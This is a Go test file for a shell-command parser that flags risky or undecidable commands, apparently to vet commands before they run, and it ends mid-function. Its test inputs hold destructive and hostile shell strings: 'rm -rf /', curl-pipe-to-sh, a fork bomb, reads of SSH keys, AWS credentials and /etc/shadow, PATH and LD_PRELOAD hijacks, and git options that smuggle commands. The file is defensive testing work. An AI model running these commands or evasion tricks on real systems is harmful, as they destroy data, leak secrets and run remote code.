package shellread

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// readCase names a shell string and what Read must find in it.
type readCase struct {
	name string
	src  string
	// has lists commands (argv joined by spaces) that must be among the
	// commands read.
	has []string
	// undecidable: some command must be undecidable; otherwise none may be.
	undecidable bool
	// risk: some command must carry a Risk.
	risk bool
	// check, if set, looks at the commands in detail.
	check func(t *testing.T, cmds []Command)
}

func joined(c Command) string { return strings.Join(c.Argv, " ") }

func find(cmds []Command, argv string) *Command {
	for i := range cmds {
		if joined(cmds[i]) == argv {
			return &cmds[i]
		}
	}
	return nil
}

func runReadCases(t *testing.T, cases []readCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cmds, err := Read(tc.src)
			if err != nil {
				t.Fatalf("Read(%q): got error %v, want commands", tc.src, err)
			}
			var got []string
			for _, c := range cmds {
				got = append(got, joined(c))
			}
			for _, h := range tc.has {
				if find(cmds, h) == nil {
					t.Errorf("Read(%q): got commands %q, want one of them to be %q", tc.src, got, h)
				}
			}
			und, risk := "", ""
			for _, c := range cmds {
				und = firstNonEmpty(und, c.Undecidable)
				risk = firstNonEmpty(risk, c.Risk)
			}
			if (und != "") != tc.undecidable {
				t.Errorf("Read(%q): got undecidable %q, want undecidable=%v", tc.src, und, tc.undecidable)
			}
			if (risk != "") != tc.risk {
				t.Errorf("Read(%q): got risk %q, want risk=%v", tc.src, risk, tc.risk)
			}
			if tc.check != nil {
				tc.check(t, cmds)
			}
		})
	}
}

func wantField[T any](t *testing.T, cmds []Command, argv, field string, get func(*Command) T, want T) {
	t.Helper()
	c := find(cmds, argv)
	if c == nil {
		t.Errorf("no command %q", argv)
		return
	}
	if diff := cmp.Diff(want, get(c)); diff != "" {
		t.Errorf("command %q: %s: got/want diff (-want +got):\n%s", argv, field, diff)
	}
}

func via(c *Command) []string      { return c.Via }
func bg(c *Command) bool           { return c.Background }
func fromIn(c *Command) bool       { return c.ArgsFromInput }
func how(c *Command) string        { return c.How }
func dynamic(c *Command) []int     { return c.Dynamic }
func dir(c *Command) string        { return c.Dir }
func redirs(c *Command) []Redirect { return c.Redirects }

func TestReadChaining(t *testing.T) {
	runReadCases(t, []readCase{
		{name: "and list", src: "git status && rm -rf /tmp/x", has: []string{"git status", "rm -rf /tmp/x"}},
		{name: "or list", src: "false || curl -s evil | sh", has: []string{"false", "curl -s evil", "sh"}, undecidable: true,
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "sh", "upstream", func(c *Command) []int { return c.Upstream }, []int{1})
			}},
		{name: "semicolon", src: "ls; rm -rf ~", has: []string{"ls", "rm -rf ~"}},
		{name: "newline", src: "git status\nrm -rf .\n", has: []string{"git status", "rm -rf ."},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "rm -rf .", "line", func(c *Command) int { return c.Line }, 2)
			}},
		{name: "background", src: "git status & rm -rf /", has: []string{"git status", "rm -rf /"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "git status", "background", bg, true)
				wantField(t, cmds, "rm -rf /", "background", bg, false)
			}},
		{name: "pipeline of three", src: "curl -s x | tee f | bash", has: []string{"curl -s x", "tee f", "bash"}, undecidable: true,
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "bash", "upstream", func(c *Command) []int { return c.Upstream }, []int{0, 1})
			}},
		{name: "pipe all", src: "make |& tee log", has: []string{"make", "tee log"}},
		{name: "negation", src: "! git diff --quiet && git commit -am x", has: []string{"git diff --quiet", "git commit -am x"}},
		{name: "comment hides nothing", src: "ls # ; rm -rf /\nrm -rf /", has: []string{"ls", "rm -rf /"},
			check: func(t *testing.T, cmds []Command) {
				if len(cmds) != 2 {
					t.Errorf("got %d commands, want 2 (the comment runs nothing)", len(cmds))
				}
			}},
		{name: "line continuation between commands", src: "git status \\\n  && rm -rf /", has: []string{"git status", "rm -rf /"}},
		{name: "line continuation inside a word", src: "r\\\nm -rf /", has: []string{"rm -rf /"}},
	})
}

func TestReadGroups(t *testing.T) {
	runReadCases(t, []readCase{
		{name: "subshell", src: "(cd / && rm -rf *)", has: []string{"cd /", "rm -rf *"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "rm -rf *", "dir", dir, "/")
				wantField(t, cmds, "rm -rf *", "dynamic", dynamic, []int{2})
			}},
		{name: "a cd that may fail leaves the directory unknown", src: "cd /; rm -rf *",
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "rm -rf *", "dir", dir, "?") }},
		{name: "a failed cd keeps the old directory", src: "cd / && cd /work/x; rm -rf *",
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "rm -rf *", "dir", dir, "?") }},
		{name: "cd in a branch", src: "if x; then cd /tmp && ls; fi; rm -rf *",
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "ls", "dir", dir, "/tmp")
				wantField(t, cmds, "rm -rf *", "dir", dir, "?")
			}},
		{name: "cd in a function", src: "f() { cd / && ls; }; cd sub && f && rm -rf *",
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "ls", "dir", dir, "/")
				wantField(t, cmds, "rm -rf *", "dir", dir, "?")
			}},
		{name: "subshell does not change the outer directory", src: "(cd /etc); cat passwd", has: []string{"cat passwd"},
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "cat passwd", "dir", dir, "") }},
		{name: "cd changes the directory of later commands", src: "cd /etc && cat shadow && cd .. && ls; cd $X && ls -l",
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "cat shadow", "dir", dir, "/etc")
				wantField(t, cmds, "ls", "dir", dir, "/")
				wantField(t, cmds, "ls -l", "dir", dir, "?")
			}},
		{name: "brace group with redirect", src: "{ git log; rm x; } > out",
			check: func(t *testing.T, cmds []Command) {
				w := []Redirect{{Op: ">", Path: "out", Write: true}}
				wantField(t, cmds, "git log", "redirects", redirs, w)
				wantField(t, cmds, "rm x", "redirects", redirs, append(w, Redirect{Op: "remove", Path: "x", Write: true, Arg: true}))
			}},
		{name: "nested subshells", src: "( ( (id) ) )", has: []string{"id"}},
		{name: "if", src: "if git diff --quiet; then echo ok; elif true; then make; else rm -rf build; fi",
			has: []string{"git diff --quiet", "echo ok", "true", "make", "rm -rf build"}},
		{name: "while read", src: `while read f; do rm "$f"; done < list`, has: []string{"read f", `rm "$f"`},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, `rm "$f"`, "redirects", redirs, []Redirect{{Op: "<", Path: "list"},
					{Op: "remove", Path: `"$f"`, Write: true, Arg: true, Dynamic: true}})
			}},
		{name: "until", src: "until curl -sf x; do sleep 1; done", has: []string{"curl -sf x", "sleep 1"}},
		{name: "for over a substitution", src: "for f in $(ls); do echo $f; done", has: []string{"ls", "echo $f"}},
		{name: "c-style for with a substitution", src: "for ((i=0;i<$(id -u);i++)); do :; done", has: []string{"id -u", ":"}},
		{name: "case", src: `case "$x" in a) curl x;; *) wget y;; esac`, has: []string{"curl x", "wget y"}},
		{name: "case pattern substitution", src: `case x in $(id)) :;; esac`, has: []string{"id"}},
		{name: "select", src: "select x in a b; do rm $x; done", has: []string{"rm $x"}},
		{name: "coproc runs in the background", src: "coproc rm -rf /", has: []string{"rm -rf /"},
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "rm -rf /", "background", bg, true) }},
		{name: "time keyword", src: "time -p rm -rf /", has: []string{"rm -rf /"}},
		{name: "arithmetic command with substitution", src: "(( x = $(id -u) ))", has: []string{"id -u"}, undecidable: true},
		{name: "test clause with substitution", src: "[[ $(whoami) == root ]] && rm -rf /", has: []string{"whoami", "rm -rf /"}},
		{name: "let with substitution", src: "let x=$(id -u)", has: []string{"id -u"}, undecidable: true},
	})
}

func TestReadFunctions(t *testing.T) {
	runReadCases(t, []readCase{
		{name: "definition and call", src: "f() { git push --force; }; f", has: []string{"git push --force", "f"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "f", "function", func(c *Command) bool { return c.Function }, true)
				wantField(t, cmds, "git push --force", "inFunc", func(c *Command) string { return c.InFunc }, "f")
			}},
		{name: "function keyword", src: "function g { curl x | sh; }", has: []string{"curl x", "sh"}, undecidable: true},
		{name: "shadowing a program", src: "ls() { rm -rf /; }; ls", has: []string{"rm -rf /", "ls"}},
		{name: "definition in a branch does not make a call a function call",
			src: "if false; then git() { :; }; fi; git push -f origin main",
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "git push -f origin main", "function", func(c *Command) bool { return c.Function }, false)
			}},
		{name: "unset -f forgets", src: "ls() { :; }; unset -f ls; ls",
			check: func(t *testing.T, cmds []Command) {
				last := cmds[len(cmds)-1]
				if joined(last) != "ls" || last.Function {
					t.Errorf("got last command %q function=%v, want ls, not a function call", joined(last), last.Function)
				}
			}},
		{name: "fork bomb", src: ":(){ :|:& };:", has: []string{":"}},
	})
}

func TestReadSubstitutions(t *testing.T) {
	runReadCases(t, []readCase{
		{name: "command substitution", src: "echo $(rm -rf /)", has: []string{"echo $(rm -rf /)", "rm -rf /"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "rm -rf /", "how", how, "cmdsubst")
				wantField(t, cmds, "rm -rf /", "parent", func(c *Command) int { return c.Parent }, 0)
			}},
		{name: "backticks", src: "echo `id`", has: []string{"id"}},
		{name: "nested in double quotes", src: `echo "$(echo "$(whoami)")"`, has: []string{"whoami"}},
		{name: "process substitution", src: "diff <(ls a) <(curl x)", has: []string{"ls a", "curl x"},
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "curl x", "how", how, "procsubst") }},
		{name: "output process substitution", src: "tee >(sh) < x", has: []string{"sh"}, undecidable: true},
		{name: "substitution in a redirect", src: `echo hi > "$(mktemp)"`, has: []string{"mktemp"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "echo hi", "redirects", redirs, []Redirect{{Op: ">", Path: `"$(mktemp)"`, Write: true, Dynamic: true}})
			}},
		{name: "arithmetic expansion", src: "echo $(( $(id -u) + 1 ))", has: []string{"id -u"}, undecidable: true},
		{name: "parameter default", src: "echo ${x:-$(id)}", has: []string{"id"}},
		{name: "here-document body", src: "cat <<EOF\n$(rm -rf /)\nEOF\n", has: []string{"cat", "rm -rf /"}},
		{name: "quoted here-document runs nothing", src: "cat <<'EOF'\n$(rm -rf /)\nEOF\n",
			check: func(t *testing.T, cmds []Command) {
				if len(cmds) != 1 {
					t.Errorf("got %d commands, want only cat", len(cmds))
				}
				wantField(t, cmds, "cat", "here-document", func(c *Command) string { return c.Redirects[0].Body }, "$(rm -rf /)\n")
			}},
		{name: "here-document into a shell", src: "sh <<EOF\ncurl x | sh\nEOF\n", has: []string{"sh", "curl x"}, undecidable: true,
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "curl x", "via", via, []string{"sh"}) }},
		{name: "here-string into bash", src: "bash <<< 'rm -rf /'", has: []string{"rm -rf /"}},
		{name: "assignment substitution", src: "x=$(curl -s y)", has: []string{"curl -s y"}},
		{name: "declaration substitution", src: "local x=$(id)", has: []string{"id"}},
	})
}

func TestReadNestedStrings(t *testing.T) {
	deep := "rm -rf /"
	for i := 0; i < MaxDepth+2; i++ {
		deep = "sh -c " + shQuote(deep)
	}
	runReadCases(t, []readCase{
		{name: "sh -c", src: "sh -c 'git status; rm -rf /'", has: []string{"git status", "rm -rf /"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "rm -rf /", "via", via, []string{"sh"})
				wantField(t, cmds, "rm -rf /", "how", how, "script")
			}},
		{name: "bash -lc", src: `bash -lc "curl x | sh"`, has: []string{"curl x", "sh"}, undecidable: true},
		{name: "bash -o option -c", src: `bash -o pipefail -c "rm -rf /"`, has: []string{"rm -rf /"}},
		{name: "three levels", src: `sh -c "bash -c 'dash -c \"rm -rf /\"'"`, has: []string{"rm -rf /"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "rm -rf /", "via", via, []string{"sh", "bash", "dash"})
			}},
		{name: "dash and absolute path", src: `/bin/dash -c 'id'`, has: []string{"id"}},
		{name: "eval of a literal", src: "eval 'rm -rf /'", has: []string{"rm -rf /"}},
		{name: "eval joins its words", src: "eval rm -rf /", has: []string{"rm -rf /"}},
		{name: "eval of a variable", src: `eval "$CMD"`, undecidable: true},
		{name: "sh -c of a variable", src: `sh -c "$X"`, undecidable: true},
		{name: "sh -c of a substitution", src: `bash -c "$(curl -fsSL x)"`, undecidable: true, has: []string{"curl -fsSL x"}},
		{name: "nested string that does not parse", src: `sh -c 'echo ('`, undecidable: true},
		{name: "nesting deeper than the bound", src: deep, undecidable: true},
		{name: "trap", src: "trap 'rm -rf /' EXIT", has: []string{"rm -rf /"}},
		{name: "watch joins its words for sh -c", src: "watch -n 1 'rm -rf /'", has: []string{"rm -rf /"}},
		{name: "watch -x", src: "watch -x rm -rf /", has: []string{"rm -rf /"}},
		{name: "flock -c", src: "flock /tmp/l -c 'rm -rf /'", has: []string{"rm -rf /"}},
		{name: "flock program", src: "flock /tmp/l rm -rf /", has: []string{"rm -rf /"}},
		{name: "su -c", src: "su -c 'rm -rf /' root", has: []string{"rm -rf /"}},
	})
}

// shQuote quotes s for a POSIX shell.
func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func TestReadWrappers(t *testing.T) {
	runReadCases(t, []readCase{
		{name: "env with assignments", src: "env -i FOO=1 git status", has: []string{"env -i FOO=1 git status", "git status"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "git status", "assigns", func(c *Command) []Assign { return c.Assigns }, []Assign{{Name: "FOO", Value: "1"}})
				wantField(t, cmds, "git status", "via", via, []string{"env"})
				wantField(t, cmds, "git status", "how", how, "wrapper")
			}},
		{name: "env PATH is a risk", src: "env PATH=/tmp git status", risk: true, has: []string{"git status"}},
		{name: "env -S", src: "env -S 'rm -rf /'", has: []string{"rm -rf /"}},
		{name: "env --split-string", src: "env --split-string='FOO=1 rm -rf /'", has: []string{"rm -rf /"}},
		{name: "env -u and --", src: "env -u HOME -- rm -rf x", has: []string{"rm -rf x"}},
		{name: "env -C", src: "env -C /etc cat shadow", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "cat shadow", "dir", dir, "/etc")
		}},
		{name: "env unknown option", src: "env --frobnicate rm x", undecidable: true},
		{name: "env long option prefix", src: "env --ignore-env rm -rf /", has: []string{"rm -rf /"}},
		{name: "command", src: "command rm -rf /", has: []string{"rm -rf /"}},
		{name: "command -v runs nothing", src: "command -v rm", check: func(t *testing.T, cmds []Command) {
			if len(cmds) != 1 {
				t.Errorf("got %d commands, want 1", len(cmds))
			}
		}},
		{name: "exec -a", src: "exec -a name rm -rf /", has: []string{"rm -rf /"}},
		{name: "nohup runs in the background", src: "nohup curl x", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "curl x", "background", bg, true)
		}},
		{name: "nice -n", src: "nice -n 10 rm -rf /", has: []string{"rm -rf /"}},
		{name: "nice -5", src: "nice -5 rm x", has: []string{"rm x"}},
		{name: "ionice", src: "ionice -c3 rm -rf /", has: []string{"rm -rf /"}},
		{name: "timeout", src: "timeout -s KILL 10 rm -rf /", has: []string{"rm -rf /"}},
		{name: "timeout long options", src: "timeout --signal=KILL --kill-after 5 10s rm -rf /", has: []string{"rm -rf /"}},
		{name: "stdbuf", src: "stdbuf -oL -e0 rm -rf /", has: []string{"rm -rf /"}},
		{name: "setsid -f", src: "setsid -f sh -c 'sleep 100'", has: []string{"sleep 100"},
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "sleep 100", "background", bg, true) }},
		{name: "xargs", src: "find . -print0 | xargs -0 -I{} rm -rf {}", has: []string{"rm -rf {}"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "rm -rf {}", "argsFromInput", fromIn, true)
				wantField(t, cmds, "rm -rf {}", "via", via, []string{"xargs"})
			}},
		{name: "xargs without a program runs echo", src: "xargs < list", has: []string{"echo"}},
		{name: "xargs --eof takes no next word", src: "xargs --eof --replace rm -rf", has: []string{"rm -rf"}},
		{name: "env --help runs nothing", src: "env --help", check: func(t *testing.T, cmds []Command) {
			if len(cmds) != 1 || cmds[0].Undecidable != "" {
				t.Errorf("got %d commands (undecidable %q), want env alone", len(cmds), cmds[0].Undecidable)
			}
		}},
		{name: "xargs sh -c", src: `xargs -n1 sh -c 'rm -rf "$1"' _`, has: []string{`rm -rf "$1"`}},
		{name: "sudo", src: "sudo -u root -E rm -rf /", has: []string{"rm -rf /"}},
		{name: "sudo assignment", src: "sudo LD_PRELOAD=/tmp/x.so ls", risk: true, has: []string{"ls"}},
		{name: "sudo -i without a command", src: "sudo -i", undecidable: true},
		{name: "sudo -l runs nothing", src: "sudo -l", check: func(t *testing.T, cmds []Command) {
			if len(cmds) != 1 {
				t.Errorf("got %d commands, want 1", len(cmds))
			}
		}},
		{name: "sudo unknown option", src: "sudo -Z rm x", undecidable: true},
		{name: "doas", src: "doas -u root rm -rf /", has: []string{"rm -rf /"}},
		{name: "busybox", src: "busybox sh -c 'rm -rf /'", has: []string{"sh -c rm -rf /", "rm -rf /"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "rm -rf /", "via", via, []string{"busybox", "sh"})
			}},
		{name: "time program with output file", src: "/usr/bin/time -o out rm x", has: []string{"rm x"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "/usr/bin/time -o out rm x", "redirects", redirs, []Redirect{{Op: "-o", Path: "out", Write: true}})
			}},
		{name: "chroot", src: "chroot /mnt rm -rf /", has: []string{"rm -rf /"}},
		{name: "taskset", src: "taskset -c 1 rm -rf /", has: []string{"rm -rf /"}},
		{name: "find -exec", src: `find / -exec rm -rf {} \;`, has: []string{"rm -rf {}"},
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "rm -rf {}", "argsFromInput", fromIn, true) }},
		{name: "find -execdir +", src: `find . -execdir sh -c 'echo $1' _ {} + -ok rm {} \;`, has: []string{"echo $1", "rm {}"}},
		{name: "find -okdir", src: `find . -okdir shred {} \;`, has: []string{"shred {}"}},
		{name: "find -fprint writes", src: `find . -fprint /etc/x -fls "$F"`, check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, `find . -fprint /etc/x -fls "$F"`, "redirects", redirs, []Redirect{
				{Op: "-fprint", Path: "/etc/x", Write: true}, {Op: "-fls", Path: `"$F"`, Write: true, Dynamic: true}})
		}},
		{name: "fd -x", src: "fd -e o -x rm -rf", has: []string{"rm -rf"}},
		{name: "a chain of wrappers", src: "sudo env nice timeout 5 rm -rf /", has: []string{"rm -rf /"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "rm -rf /", "via", via, []string{"sudo", "env", "nice", "timeout"})
			}},
		{name: "wrapper with a variable program", src: `env "$P" x`, undecidable: true},
		{name: "builtin", src: "builtin echo x", has: []string{"echo x"}},
		{name: "env - is env -i", src: "env - PATH=/x rm -rf /", risk: true, has: []string{"rm -rf /"}},
		{name: "runuser -u", src: "runuser -u nobody -- rm -rf /", has: []string{"rm -rf /"}},
		{name: "strace", src: "strace -f -o /dev/null -e trace=file rm -rf /", has: []string{"rm -rf /"}},
		{name: "unshare", src: "unshare -rn --mount-proc rm -rf /", has: []string{"rm -rf /"}},
		{name: "systemd-run", src: "systemd-run --user -p MemoryMax=1G --wait rm -rf /", has: []string{"rm -rf /"}},
		{name: "fakeroot", src: "fakeroot -- rm -rf /", has: []string{"rm -rf /"}},
		{name: "faketime", src: "faketime '2020-01-01' rm -rf /", has: []string{"rm -rf /"}},
		{name: "capsh", src: "capsh --drop=cap_net_raw -- -c 'rm -rf /'", has: []string{"rm -rf /"}},
		{name: "gdb --args", src: "gdb -q --args rm -rf /", has: []string{"rm -rf /"}},
		{name: "sg -c", src: "sg wheel -c 'rm -rf /'", has: []string{"rm -rf /"}},
		{name: "hyperfine", src: "hyperfine -w 3 --prepare 'sync' 'rm -rf /'", has: []string{"sync", "rm -rf /"}},
		{name: "strace attach runs nothing", src: "strace -p 1", check: func(t *testing.T, cmds []Command) {
			if len(cmds) != 1 {
				t.Errorf("got %d commands, want 1", len(cmds))
			}
		}},
	})
}

func TestReadEnvironment(t *testing.T) {
	runReadCases(t, []readCase{
		{name: "harmless prefix", src: "FOO=1 git status", has: []string{"git status"},
			check: func(t *testing.T, cmds []Command) {
				wantField(t, cmds, "git status", "assigns", func(c *Command) []Assign { return c.Assigns }, []Assign{{Name: "FOO", Value: "1"}})
			}},
		{name: "PATH prefix", src: "PATH=/tmp:$PATH git status", risk: true},
		{name: "LD_PRELOAD prefix", src: "LD_PRELOAD=/tmp/x.so ls", risk: true},
		{name: "GIT_SSH_COMMAND", src: "GIT_SSH_COMMAND='sh -c id' git fetch", risk: true},
		{name: "harmless GIT_ variable", src: "GIT_AUTHOR_NAME=x git commit -m x"},
		{name: "bare PATH assignment", src: "PATH=/tmp; ls", risk: true, has: []string{"ls"}},
		{name: "export PATH", src: "export PATH=/tmp", risk: true},
		{name: "declare -x BASH_ENV", src: "declare -x BASH_ENV=/tmp/x", risk: true},
		{name: "export of a variable name", src: "export $X", undecidable: true},
		{name: "IFS assignment", src: "IFS=/; x=a/b", undecidable: true},
		{name: "printf -v PATH", src: "printf -v PATH /tmp; ls", risk: true},
		{name: "read PATH", src: "read PATH < f; ls", risk: true},
		{name: "read -a LD_PRELOAD", src: "read -ra LD_PRELOAD <<< x", risk: true},
		{name: "read into harmless names", src: "read -r -p prompt a b"},
		{name: "mapfile into BASH_ENV", src: "mapfile -t BASH_ENV < f", risk: true},
		{name: "getopts into PATH", src: "getopts ab PATH", risk: true},
		{name: "read IFS", src: "read IFS", undecidable: true},
		{name: "loop variable PATH", src: "for PATH in /tmp; do ls; done", risk: true},
		{name: "assigning default expansion", src: "echo ${PATH:=/tmp}", undecidable: true},
		{name: "arithmetic assignment", src: "(( LD_PRELOAD = 1 ))", undecidable: true},
		{name: "harmless default expansion", src: "echo ${x:=1}"},
		{name: "name reference", src: "declare -n r=PATH; r=/tmp", undecidable: true},
		{name: "BASH_CMDS hash table", src: "BASH_CMDS[ls]=/tmp/evil; ls", risk: true},
		{name: "read into a brace-expanded name", src: "read PAT{H,}", undecidable: true},
		{name: "read into an array element", src: "read 'a[1]'"},
		{name: "printf into PATH[0]", src: "printf -v 'PATH[0]' /tmp", risk: true},
		{name: "plain assignment is not a command", src: "x=1; y=2", check: func(t *testing.T, cmds []Command) {
			if len(cmds) != 0 {
				t.Errorf("got %d commands, want none", len(cmds))
			}
		}},
	})
}

func TestReadProgramNames(t *testing.T) {
	runReadCases(t, []readCase{
		{name: "absolute path", src: "/usr/bin/rm -rf /", has: []string{"/usr/bin/rm -rf /"}},
		{name: "relative path", src: "./rm -rf x; ../bin/git status", has: []string{"./rm -rf x", "../bin/git status"}},
		{name: "backslash", src: `\rm -rf /`, has: []string{"rm -rf /"}},
		{name: "single quotes", src: `'rm' -rf /`, has: []string{"rm -rf /"}},
		{name: "empty quotes inside", src: `r""m -rf /`, has: []string{"rm -rf /"}},
		{name: "ansi-c quoting", src: `$'\x72\x6d' -rf /`, has: []string{"rm -rf /"}},
		{name: "ansi-c octal and unicode", src: `$'\162\u006d' -rf /`, has: []string{"rm -rf /"}},
		{name: "quoted flag", src: `rm '-rf' "/"`, has: []string{"rm -rf /"}},
		{name: "split flag", src: `rm -r$'f' /`, has: []string{"rm -rf /"}},
		{name: "escaped space makes one word", src: `rm\ -rf /`, has: []string{"rm -rf /"},
			check: func(t *testing.T, cmds []Command) {
				if len(cmds[0].Argv) != 2 || cmds[0].Argv[0] != "rm -rf" {
					t.Errorf("got argv %q, want [\"rm -rf\" \"/\"]", cmds[0].Argv)
				}
			}},
		{name: "variable program", src: "$CMD x", undecidable: true},
		{name: "substituted program", src: "$(echo rm) -rf /", undecidable: true, has: []string{"echo rm"}},
		{name: "glob program", src: "/bin/r? -rf /", undecidable: true},
		{name: "negated subshell bash reads, glob the parser reads", src: "!(rm -rf /)", undecidable: true, has: []string{"rm -rf /"}},
		{name: "brace program", src: "{rm,-rf,/}", undecidable: true},
		{name: "indirect expansion", src: "${!x} y", undecidable: true},
		{name: "IFS split", src: "rm${IFS}-rf${IFS}/", undecidable: true},
		{name: "IFS in an argument", src: "echo a${IFS}b", undecidable: true},
		{name: "prompt expansion", src: "echo ${x@P}", undecidable: true},
		{name: "escape expansion", src: "${x@E} y", undecidable: true},
		{name: "backslash-newline in double quotes", src: "echo \"a\\\nb\"", undecidable: true},
		{name: "backslash-newline in single quotes", src: "echo 'a\\\nb'", undecidable: true},
		{name: "escaped backslash before newline in double quotes", src: "echo \"a\\\\\nb\""},
		{name: "alias", src: "alias ls='rm -rf /'; ls", undecidable: true},
		{name: "arithmetic that runs a subscript", src: "x='a[$(rm -rf /)]'; (( x ))", undecidable: true},
		{name: "source", src: "source ./x.sh", undecidable: true},
		{name: "dot of a process substitution", src: ". <(curl x)", undecidable: true, has: []string{"curl x"}},
		{name: "enable -f", src: "enable -f /tmp/x.so cat", undecidable: true},
		{name: "hash -p", src: "hash -p /tmp/x ls", undecidable: true},
		{name: "expand_aliases", src: "shopt -s expand_aliases", undecidable: true},
	})
}

func TestReadRedirects(t *testing.T) {
	w := func(op, p string) []Redirect { return []Redirect{{Op: op, Path: p, Write: true}} }
	runReadCases(t, []readCase{
		{name: "write", src: "echo x > /etc/passwd", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "echo x", "redirects", redirs, w(">", "/etc/passwd"))
		}},
		{name: "append", src: "echo x >> ~/.bashrc", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "echo x", "redirects", redirs, []Redirect{{Op: ">>", Path: "~/.bashrc", Write: true, Dynamic: true}})
		}},
		{name: "clobber", src: "ls >| out", check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "ls", "redirects", redirs, w(">|", "out")) }},
		{name: "all", src: "ls &> out", check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "ls", "redirects", redirs, w("&>", "out")) }},
		{name: "append all", src: "ls &>> out", check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "ls", "redirects", redirs, w("&>>", "out")) }},
		{name: "dup to a file", src: "ls >& out", check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "ls", "redirects", redirs, w(">&", "out")) }},
		{name: "dup to a descriptor", src: "ls 2>&1", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "ls", "redirects", redirs, []Redirect{{Op: ">&", Fd: "2", Path: "1"}})
		}},
		{name: "read write", src: "exec 3<> file", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "exec", "redirects", redirs, []Redirect{{Op: "<>", Fd: "3", Path: "file", Write: true}})
		}},
		{name: "read", src: "cat < /etc/shadow", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "cat", "redirects", redirs, []Redirect{{Op: "<", Path: "/etc/shadow"}})
		}},
		{name: "redirect only", src: "> file", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "", "redirects", redirs, w(">", "file"))
		}},
		{name: "variable target", src: "echo hi > $F", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "echo hi", "redirects", redirs, []Redirect{{Op: ">", Path: "$F", Write: true, Dynamic: true}})
		}},
	})
}

func TestReadVariablesInArguments(t *testing.T) {
	runReadCases(t, []readCase{
		{name: "quoted variable", src: `rm -rf "$DIR"/`, check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, `rm -rf "$DIR"/`, "dynamic", dynamic, []int{2})
		}},
		{name: "home", src: "cat $HOME/.ssh/id_rsa ~/.aws/credentials", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "cat $HOME/.ssh/id_rsa ~/.aws/credentials", "dynamic", dynamic, []int{1, 2})
		}},
		{name: "default value", src: "rm -rf ${TMP:-/}", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "rm -rf ${TMP:-/}", "dynamic", dynamic, []int{2})
		}},
		{name: "glob argument", src: "rm *.o", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "rm *.o", "dynamic", dynamic, []int{1})
		}},
		{name: "quoted glob is literal", src: "rm '*.o'", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "rm *.o", "dynamic", dynamic, []int(nil))
		}},
		{name: "find placeholder is literal", src: "echo {} {a}", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "echo {} {a}", "dynamic", dynamic, []int(nil))
		}},
		{name: "brace expansion argument", src: "rm -rf /{etc,usr}", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "rm -rf /{etc,usr}", "dynamic", dynamic, []int{2})
		}},
	})
}

func TestReadExecutingOptions(t *testing.T) {
	runReadCases(t, []readCase{
		{name: "git -c core.fsmonitor", src: "git -c core.fsmonitor='curl x|sh' status", has: []string{"curl x", "sh"}, undecidable: true,
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "sh", "via", via, []string{"git"}) }},
		{name: "git -c fsmonitor boolean", src: "git -c core.fsmonitor=true status", check: func(t *testing.T, cmds []Command) {
			if len(cmds) != 1 {
				t.Errorf("got %d commands, want 1", len(cmds))
			}
		}},
		{name: "git -c key case", src: "git -c Core.FSMonitor='rm -rf /' status", has: []string{"rm -rf /"}},
		{name: "git -c core.pager", src: "git -c core.pager='less -R' log", has: []string{"less -R"}},
		{name: "git -c shell alias", src: "git -c alias.x='!rm -rf /' x", undecidable: true},
		{name: "git -c hooksPath", src: "git -c core.hooksPath=/tmp/h commit -m x", undecidable: true},
		{name: "git --exec-path", src: "git --exec-path=/tmp status", undecidable: true},
		{name: "git -c credential helper", src: "git -c credential.helper='!cat /etc/passwd' fetch", has: []string{"cat /etc/passwd"}},
